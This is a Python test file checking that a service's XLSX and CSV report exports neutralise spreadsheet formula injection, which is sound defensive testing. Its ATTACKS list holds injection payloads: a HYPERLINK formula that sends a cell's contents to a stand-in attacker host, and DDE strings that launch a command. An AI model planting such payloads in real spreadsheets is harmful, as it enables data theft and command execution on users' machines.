"""Formula injection: text that a spreadsheet would run (=, +, -, @, tab, CR first) is written
as text in every XLSX and CSV the service makes."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest

from infra.documents.workbook import Book
from services.api.province.exports import to_csv, to_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_report_workbook_keeps_formula_like_text_as_text(attack: str) -> None:
    wb = Book()
    wb.sheet("รายการ").table(["ชื่อโครงการ", "งบประมาณ (บาท)"], [[attack, 5000]])
    raw = wb.save("รายการ", "ผู้ทดสอบ", datetime(2026, 10, 1, tzinfo=UTC))
    back = openpyxl.load_workbook(io.BytesIO(raw))
    cell = back.active["A2"]  # type: ignore[index]
    assert cell.data_type == "s" and cell.value == attack
    assert back.active["B2"].value == 5000  # type: ignore[index]  # numbers stay numbers


def test_the_province_exports_keep_organisation_names_as_text() -> None:
    head = ["รหัส", "ชื่อ อปท.", "อำเภอ", "ประกาศใช้แผน", "ร้อยละที่เสร็จ"]
    body = [[a[:5], a, "=cmd", date(2026, 11, 1), -5] for a in ATTACKS]
    rows = list(csv.reader(io.StringIO(to_csv(head, body).decode("utf-8-sig"))))
    for row, attack in zip(rows[1:], ATTACKS, strict=True):
        assert row[1] == "'" + attack and row[2] == "'=cmd"
        assert row[3] == "2026-11-01" and row[4] == "-5"  # a number is not text to escape
    at = datetime(2026, 11, 2, tzinfo=UTC)
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(head, body, "จังหวัดสกลนคร", at)))
    ws = book.active
    assert ws is not None
    for r, attack in enumerate(ATTACKS, start=2):
        assert ws.cell(row=r, column=2).data_type == "s"
        assert ws.cell(row=r, column=2).value == attack
        assert (
            ws.cell(row=r, column=3).value == "=cmd" and ws.cell(row=r, column=3).data_type == "s"
        )
        assert ws.cell(row=r, column=5).value == -5
